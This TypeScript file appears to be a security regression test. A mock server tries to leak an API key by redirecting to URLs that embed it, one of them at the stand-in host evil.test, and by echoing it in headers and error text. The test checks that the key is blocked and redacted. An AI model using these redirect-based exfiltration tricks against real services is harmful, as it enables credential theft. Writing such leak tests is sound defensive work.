import * as assert from 'uvu/assert';
import type { Attack } from '../harness/attack.ts';
import { outputOf, play } from './parts/net.ts';
import { serve } from './parts/server.ts';

/** Keys went out with the text of an error (langgenius/dify#39888, IQSS/dataverse#4954). */
export const attack: Attack = {
  claim: 'a server that puts the credential where an error shows it does not get it shown',
  act: async (world) => {
    await using server = await serve(({ url, headers }, response) => {
      const key = String(headers['x-api-key']);
      const to = { '/host': `http://${key}.test/`, '/user': `http://${key}@evil.test/`, '/scheme': `${key}:x` }[
        url ?? ''
      ];
      response.writeHead(
        to ? 302 : 401,
        to ? { location: to } : { [`x-${key}`]: key, 'www-authenticate': `key="${key}"` },
      );
      response.end(`the key ${key} is not known`);
    });
    const urls = ['/host', '/user', '/scheme', '/'].map((path) => server.origin + path);
    const script = `export async function main(urls) {
      const answers = await Promise.all(urls.map((url) => read(url, { secret: 'partner' })));
      log.warn('got', answers);
      return answers;
    }`;
    const answers = await outputOf(play(world, script, urls, { allow: [server.origin] }));
    assert.equal(
      (answers as { code?: string }[]).map(({ code }) => code),
      ['DENIED', 'DENIED', 'DENIED', undefined],
    );
    assert.match(JSON.stringify(answers), /the key \*\*\* is not known/);
  },
};
